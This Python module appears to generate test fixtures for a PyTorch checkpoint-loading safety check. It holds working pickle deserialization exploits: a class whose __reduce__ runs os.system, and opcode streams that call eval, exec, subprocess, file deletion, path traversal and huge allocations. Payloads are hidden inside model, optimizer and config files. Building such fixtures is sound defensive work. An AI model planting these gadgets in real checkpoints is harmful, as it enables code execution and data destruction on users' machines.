"""Pickles that run something: every way to name a function, and every place to hide one."""

from __future__ import annotations

import io
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Iterator, Mapping
from typing import Any

import torch
from building import (
    NO_BUNDLE,
    Gadgets,
    Item,
    called,
    committed,
    glob,
    plain,
    saved,
    text,
    value,
    zipped,
)

__all__ = ["every_global", "every_opcode", "hidden", "other_streams"]

_MODEL = frozenset({"index", "model"})


def _calls(gadgets: Gadgets) -> Mapping[str, tuple[Any, ...]]:
    """Return functions that do something, with arguments that show that they did it."""
    command, code, mark = gadgets.command, gadgets.code, str(gadgets.mark)
    script, secret = str(gadgets.script), str(gadgets.outside / "secret.pt")
    return {
        "os:system": (command,),
        "posix:system": (command,),
        "nt:system": (command,),
        "os:popen": (command,),
        "os:execvp": ("touch", ["touch", mark]),
        "os:remove": (secret,),
        "os:rename": (secret, mark),
        "posix:open": (mark, 65),
        "subprocess:Popen": (["touch", mark],),
        "subprocess:check_output": (["touch", mark],),
        "pty:spawn": (["touch", mark],),
        "builtins:eval": (code,),
        "builtins:exec": (code,),
        "__builtin__:eval": (code,),
        "__builtin__:execfile": (script,),
        "builtins:compile": (code, "x", "exec"),
        "builtins:open": (mark, "w"),
        "builtins:getattr": ({}, "keys"),
        "builtins:setattr": ({}, "a", 1),
        "builtins:__import__": ("attack_payload",),
        "builtins:breakpoint": (),
        "builtins:type": ("A", (), {}),
        "builtins:map": (None, []),
        "builtins:memoryview": (b"",),
        "builtins:bytes": (2**31,),
        "builtins:range": (2**62,),
        "builtins:list": ([],),
        "builtins:dict": ([],),
        "importlib:import_module": ("attack_payload",),
        "importlib._bootstrap:_gcd_import": ("attack_payload",),
        "pkgutil:resolve_name": ("os:system",),
        "pydoc:locate": ("os.system",),
        "runpy:run_path": (script,),
        "runpy:_run_code": (code, {}),
        "runpy:run_module": ("attack_payload",),
        "attack_payload:Thing": (),
        "antigravity:geohash": (),
        "timeit:timeit": (code,),
        "cProfile:run": (code,),
        "pdb:run": (code,),
        "code:interact": (),
        "ctypes:CDLL": ("libc.so.6",),
        "marshal:loads": (b"N",),
        "pickle:loads": (pickle.dumps(1),),
        "_pickle:loads": (pickle.dumps(1),),
        "types:FunctionType": (None, {}),
        "types:CodeType": (),
        "functools:partial": (None, command),
        "functools:reduce": (None, []),
        "operator:attrgetter": ("system",),
        "operator:methodcaller": ("system", command),
        "operator:itemgetter": (0,),
        "copyreg:_reconstructor": (None, None, None),
        "copyreg:__newobj__": (None,),
        "copy_reg:_reconstructor": (None, None, None),
        "pathlib:Path": (mark,),
        "pathlib:PosixPath": (mark,),
        "pathlib:Path.write_text": (None, "x"),
        "pathlib:Path.touch": (mark,),
        "codecs:open": (mark, "w"),
        "codecs:decode": (b"x", "rot13"),
        "_codecs:decode": (b"x", "idna"),
        "_codecs:lookup": ("attack_payload",),
        "shutil:rmtree": (str(gadgets.outside),),
        "shutil:copyfile": (secret, mark),
        "tempfile:mktemp": (),
        "io:open": (mark, "w"),
        "_io:FileIO": (mark, "w"),
        "mmap:mmap": (-1, 2**30),
        "array:array": ("b", b""),
        "socket:create_connection": (("127.0.0.1", 9),),
        "urllib.request:urlopen": ("http://127.0.0.1:9/",),
        "webbrowser:open": ("http://127.0.0.1:9/",),
        "logging:FileHandler": (mark,),
        "sqlite3:connect": (mark,),
        "zipfile:ZipFile": (mark, "w"),
        "tarfile:open": (mark, "w"),
        "sys:exit": (0,),
        "os:_exit": (0,),
        "signal:raise_signal": (9,),
        "threading:Thread": (),
        "re:compile": ("(a+)+$",),
        "datetime:datetime": (2026, 1, 1),
        "argparse:Namespace": (),
        "uuid:UUID": ("0" * 32,),
        "collections:defaultdict": (None,),
        "collections:namedtuple": ("A", "b"),
        "collections:OrderedDict.fromkeys": ([],),
        "numpy:load": (secret,),
        "numpy:fromfile": (secret,),
        "numpy:memmap": (mark,),
        "numpy.core.multiarray:_reconstruct": (None, (0,), b"b"),
        "numpy._core.multiarray:scalar": (None, b""),
        "numpy.lib.npyio:load": (secret,),
        "numpy.testing._private.utils:runstring": (code, {}),
        "torch:load": (secret,),
        "torch:save": ({}, mark),
        "torch:from_file": (secret,),
        "torch.hub:load": (str(gadgets.script.parent), "x"),
        "torch.hub:load_state_dict_from_url": ("http://127.0.0.1:9/x.pt",),
        "torch.utils.model_zoo:load_url": ("http://127.0.0.1:9/x.pt",),
        "torch.serialization:load": (secret,),
        "torch.serialization:_load": (None, None, None),
        "torch.serialization:_legacy_load": (None, None, None),
        "torch.serialization:_open_file": (mark, "w"),
        "torch.serialization:add_safe_globals": ([],),
        "torch._C:PyTorchFileReader": (secret,),
        "torch._C:PyTorchFileWriter": (mark,),
        "torch._C:import_ir_module": (None, secret),
        "torch.jit:load": (secret,),
        "torch.jit:CompilationUnit": (code,),
        "torch.package:PackageImporter": (secret,),
        "torch.utils.cpp_extension:load_inline": ("x", code),
        "torch.ops:load_library": (secret,),
        "torch.storage:_load_from_bytes": (b"",),
        "torch.UntypedStorage:from_file": (secret,),
        "torch._utils:_import_dotted_name": ("os.system",),
        "torch._utils:_rebuild_tensor_v2.__globals__": (),
        "torch._utils:_rebuild_sparse_csr_tensor": (),
        "torch._utils:_rebuild_xla_tensor": (),
        "torch.nn.modules.module:Module": (),
        "torch.nn.modules.linear:Linear": (2, 2),
        "torch.fx.graph_module:reduce_graph_module": ({}, ""),
        "torch.distributed.rpc:rpc_sync": (),
        "torch._inductor.codecache:write_atomic": (mark, "x"),
        "torch:Generator": (),
        "ckptstore:save": (mark,),
        "gpt.model:GPT": (),
    }


def every_global(gadgets: Gadgets) -> Iterator[Item]:
    """Yield a model.pt for each function, called while the weights are read."""
    for name, args in _calls(gadgets).items():
        tail = text("w") + called(name, *args)
        data = zipped(b"}" + tail + b"s")
        yield Item(f"call {name}", plain({"model.pt": data}), _MODEL, frozenset({4, 5}))


def every_opcode(gadgets: Gadgets) -> Iterator[Item]:
    """Yield a model.pt for each opcode that makes, calls or changes something."""
    system, command = "posix:system", text(gadgets.command)
    ordered, thing = glob("collections:OrderedDict"), glob("attack_payload:Thing")
    module, name = text("posix"), text("system")
    streams = {
        "STACK_GLOBAL": module + name + b"\x93" + command + b"\x85R",
        "INST": b"(" + command + b"iposix\nsystem\n",
        "INST of a module": b"(iattack_payload\nThing\n",
        "OBJ": b"(" + glob(system) + command + b"o",
        "OBJ of a module": b"(" + thing + b"o",
        "NEWOBJ": thing + b")\x81",
        "NEWOBJ of a dict": ordered + b")\x81",
        "NEWOBJ of a tensor": glob("torch:Tensor") + b")\x81",
        "NEWOBJ of a sparse tensor": glob("torch.sparse:FloatTensor") + b")\x81",
        "NEWOBJ_EX": thing + b")}\x92",
        "BUILD of a class": glob("torch:Tensor") + b"}" + text("x") + b"K\x01sb",
        "BUILD of a number": b"K\x01}b",
        "BUILD with __setstate__": ordered
        + b")R}"
        + text("__setstate__")
        + glob("torch:Tensor")
        + b"sb",
        "BUILD with __class__": ordered + b")R}" + text("__class__") + b"}sb",
        "BUILD with __dict__": ordered + b")R}" + text("__dict__") + b"}sb",
        "BUILD with a method": ordered + b")R}" + text("items") + b"K\x01sb",
        "BUILD with __reduce__": ordered + b")R}" + text("__reduce__") + b"K\x01sb",
        "BUILD with slots": ordered + b")R}}\x86b",
        "BUILD of a parameter": glob("torch.nn.parameter:Parameter") + b")Rb",
        "EXT1": b"\x82\x01",
        "EXT2": b"\x83\x01\x00",
        "EXT4": b"\x84\x01\x00\x00\x00",
        "PERSID": b"Pposix.system\n",
        "PERSID of a file": f"P{gadgets.outside}/secret.pt\n".encode(),
        "BINPERSID of a path": text(str(gadgets.outside / "secret.pt")) + b"Q",
        "BINPERSID of a number": b"K\x01Q",
        "BINPERSID of a module": value(("module", "attack_payload", "x", "y")) + b"Q",
        "BINPERSID of a class": b"("
        + text("storage")
        + thing
        + value("0")
        + value("cpu")
        + b"K\0tQ",
        "BINPERSID of a record elsewhere": b"("
        + text("storage")
        + glob("torch:FloatStorage")
        + text("../../outside/secret.pt")
        + text("cpu")
        + b"K\x01tQ",
        "REDUCE of a text": command + command + b"\x85R",
        "REDUCE of a stub's method": glob("torch._utils:_rebuild_tensor_v2.__call__") + b")R",
        "REDUCE of a list of arguments": glob(system) + b"]" + command + b"aR",
        "a rebuild by something else": glob("torch._tensor:_rebuild_from_type_v2")
        + b"("
        + glob(system)
        + glob("torch:Tensor")
        + command
        + b"\x85}tR",
        "a rebuild by what is allowed": glob("torch._tensor:_rebuild_from_type_v2")
        + b"("
        + glob("builtins:bytearray")
        + glob("torch:Tensor")
        + b"J\xff\xff\xff\x7f\x85}tR",
        "LONG4": b"\x8b\xff\xff\xff\x7f",
        "LONG": b"L" + b"9" * 100_000 + b"L\n",
        "INT": b"I" + b"9" * 100_000 + b"\n",
        "STRING": b"S'os.system'\n",
        "UNICODE": b"V\\u0000\n",
        "BINBYTES8": b"\x8e" + struct.pack("<Q", 2**62),
        "BINUNICODE8": b"\x8d" + struct.pack("<Q", 2**62),
        "BYTEARRAY8": b"\x96" + struct.pack("<Q", 2**40),
        "BINBYTES": b"B\xff\xff\xff\x7f",
        "BINSTRING": b"T\xff\xff\xff\x7f",
        "FRAME": b"\x95" + struct.pack("<Q", 2**62) + called(system, gadgets.command),
        "MEMOIZE": b"}\x94" + called(system, gadgets.command),
        "NEXT_BUFFER": b"\x97",
        "READONLY_BUFFER": b"\x98",
        "FROZENSET": b"(\x91",
        "ADDITEMS": b"\x8f(K\x01\x90",
        "DICT": b"(" + text("a") + called(system, gadgets.command) + b"d",
        "LIST": b"(" + called(system, gadgets.command) + b"l",
        "POP_MARK": b"(" + called(system, gadgets.command) + b"1}",
        "POP": called(system, gadgets.command) + b"0}",
        "DUP": called(system, gadgets.command) + b"2}",
        "a second PROTO": b"\x80\x02\x80\x04" + called(system, gadgets.command),
        "PROTO 255": b"\x80\xff}",
    }
    for title, stream in streams.items():
        data = zipped(b"}" + text("w") + stream + b"s")
        yield Item(title, plain({"model.pt": data}), _MODEL)
    for protocol in (0, 1, 3, 4, 5):
        stream = pickle.dumps({"w": _Runs(gadgets)}, protocol)
        yield Item(f"protocol {protocol}", plain({"model.pt": zipped(stream, frame=False)}), _MODEL)


class _Runs:
    """Leaves a mark when anybody unpickles it."""

    def __init__(self, gadgets: Gadgets) -> None:
        self.gadgets = gadgets

    def __reduce__(self) -> tuple[Any, ...]:
        import os

        return os.system, (self.gadgets.command,)


def other_streams(gadgets: Gadgets) -> Iterator[Item]:
    """Yield files that are no zip of torch's, though called so: pickles, tar, TorchScript, zips."""
    runs = {"w": _Runs(gadgets)}
    files = {
        f"a bare pickle of protocol {protocol}": pickle.dumps(runs, protocol)
        for protocol in range(6)
    }
    files["the format before 1.6"] = saved(runs, _use_new_zipfile_serialization=False)
    files["weights in the format before 1.6"] = saved(
        {"w": torch.ones(2)}, _use_new_zipfile_serialization=False
    )
    files["the tar format"] = _tar(
        {"pickle": pickle.dumps(runs, 2), "sys_info": b"", "tensors": b""}
    )
    files["TorchScript"] = _script()
    files["a pickle behind a zip's first bytes"] = b"PK\3\4" + pickle.dumps(runs, 2)
    files["a pickle after a zip"] = zipped(b"}") + pickle.dumps(runs, 2)
    files["a script"] = b"#!/bin/sh\n" + gadgets.command.encode() + b"\n"
    files["an empty file"] = b""
    files["a numpy file"] = b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'shape': (1,)}"
    for title, data in files.items():
        yield Item(title, plain({"model.pt": data}), _MODEL)
        yield Item(f"{title}, named .pt", plain({"x.pt": data}), frozenset({"open"}), target="x.pt")
    hidden_parts = {
        "code/__torch__.py": gadgets.code.encode(),
        "attributes.pkl": pickle.dumps(runs, 2),
        ".data/serialization_id": b"1" * 40,
        "data/0": pickle.dumps(runs, 2),
    }
    for name, data in hidden_parts.items():
        harmless = zipped(value({"w": 1}), {name: data})
        yield Item(f"a member {name}", plain({"model.pt": harmless}), frozenset())


def _tar(members: Mapping[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in members.items():
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return buffer.getvalue()


def _script() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in ("data.pkl", "constants.pkl"):
            archive.writestr(f"archive/{name}", pickle.dumps({}, 2))
        archive.writestr("archive/code/__torch__.py", "class M(Module):\n  pass\n")
        archive.writestr("archive/version", "3\n")
    return buffer.getvalue()


def hidden(gadgets: Gadgets) -> Iterator[Item]:
    """Yield checkpoints that are sound but for one file or one field of an old file."""
    runs = _Runs(gadgets)
    gadgets_in = {
        "os.system": saved({"state": {0: {"step": runs}}, "param_groups": [{"lr": runs}]}),
        "a module": zipped(b"}" + text("state") + called("attack_payload:Thing") + b"s"),
    }
    for title, data in gadgets_in.items():
        for file, part in {
            "model.pt": "model",
            "optimizer.pt": "optimizer",
            "extra.pt": "state",
        }.items():
            also = {"index", part} if part == "model" else {part}
            yield Item(f"{title} in {file}", plain({file: data}), frozenset(also))
            yield Item(f"{title} in {file}, committed", committed(file, data), frozenset({part}))
    weights = {"w": torch.ones(2)}
    old = {"model_state_dict": weights, "config": {"a": 1}, "tokenizer": None, "step": 1}
    for key in (*old, "optimizer_state_dict", "scheduler_state_dict", "notes"):
        for name in ("latest.pt", "final.pt", "old.pt"):
            data = saved({**old, key: runs})
            files = {**NO_BUNDLE, name: data}
            target = name if name == "old.pt" else ""
            yield Item(f"{key} of {name}", plain(files), frozenset({"open"}), target=target)
    nested = saved({**old, "config": {"a": [{"b": (runs,)}]}})
    yield Item("deep in config", plain({**NO_BUNDLE, "latest.pt": nested}), frozenset({"open"}))
    as_key = zipped(b"}" + called("posix:system", gadgets.command) + b"K\x01s")
    yield Item("as a key", plain({**NO_BUNDLE, "latest.pt": as_key}), frozenset({"open"}))
